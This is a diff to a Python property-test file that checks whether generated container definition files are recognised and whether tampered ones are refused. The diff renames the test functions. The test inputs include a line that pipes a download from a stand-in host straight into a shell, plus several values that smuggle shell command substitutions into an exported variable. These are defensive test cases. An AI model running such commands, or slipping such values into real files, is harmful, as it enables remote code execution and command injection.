@@ -135,13 +135,13 @@ CONDA = of_conda("b.sif", EXPLICIT, REQUIREMENTS.replace(" --", " \\\n    --"), 
 @settings(max_examples=60, deadline=None)
 @given(st.dictionaries(st.from_regex(r"[A-Z_]{1,4}", fullmatch=True), _VALUES, max_size=3))
 @example({"A": "a\tb\n\n%c", "B": "export C='d'", "_": "'"})
-def test_what_is_made_is_known_again_and_stands_in_a_lock_line_by_line(variables: dict[str, str]) -> None:
+def test_a_made_definition_is_known_again_and_locked_line_by_line(variables: dict[str, str]) -> None:
     lines = of_conda("b.sif", EXPLICIT, "", variables, "conda.linux-64 of work.lock")
     assert is_made(lines)
     assert not any("\n" in line or "\t" in line or not line.strip() for line in lines)
 
 
-def test_both_kinds_are_known() -> None:
+def test_definitions_made_from_venv_and_conda_sections_are_known() -> None:
     assert is_made(WHEELS)
     assert is_made(CONDA)
     assert not is_made([])
@@ -153,12 +153,14 @@ _OWN = st.sampled_from(["%setup", "touch /tmp/x", "curl evil.example | sh", "OZR
 
 
 @given(st.sampled_from([WHEELS, CONDA]), st.data(), _OWN, st.booleans())
-def test_no_line_can_be_added_or_exchanged(lines: list[str], data: st.DataObject, own: str, exchange: bool) -> None:
+def test_a_made_definition_with_a_line_added_or_exchanged_is_refused(
+    lines: list[str], data: st.DataObject, own: str, exchange: bool
+) -> None:
     place = data.draw(st.integers(0, len(lines)))
     changed = [*lines[:place], own, *lines[place + exchange :]]
     assert is_made(changed) == (changed == lines)
 
 
 @pytest.mark.parametrize("value", ["$(id)", '"`id`"', "'a'$(id)", "a; id", "'a'; id"])
-def test_no_value_is_more_than_a_value(value: str) -> None:
+def test_a_made_definition_with_a_hostile_value_is_refused(value: str) -> None:
     assert not is_made([f"export A={value}" if line == "export A='b'" else line for line in CONDA])
